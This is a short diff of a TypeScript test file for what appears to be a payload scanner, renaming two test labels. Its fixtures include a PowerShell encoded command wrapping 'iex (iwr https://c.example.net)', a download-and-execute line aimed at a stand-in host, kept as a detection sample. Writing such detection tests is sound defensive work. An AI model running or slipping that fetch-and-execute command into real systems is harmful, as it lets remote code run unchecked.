@@ -51,7 +51,7 @@ const texts: readonly (readonly [
     "import os\nos.abort()\n",
   ],
   [
-    "PowerShell's own way",
+    "PowerShell's own quoting",
     "c.bat",
     `powershell -enc ${base64(Buffer.from("iex (iwr https://c.example.net)", "utf16le"))}`,
     "powershell",
@@ -94,7 +94,7 @@ test("digests, names and words are no payload", async () => {
   assert.deepEqual([all.files.length, all.findings], [1, []]);
 });
 
-test("what is packed in a way that is not read here is said", async () => {
+test("an unknown kind of packing is reported", async () => {
   const xz = Buffer.concat([Buffer.from("fd377a585a00", "hex"), Buffer.alloc(60, 7)]);
   const all = await unpackBytes("a.sh", Buffer.concat([head, xz]));
   assert.deepEqual(reasonsOf(all), ["unknown-format"]);
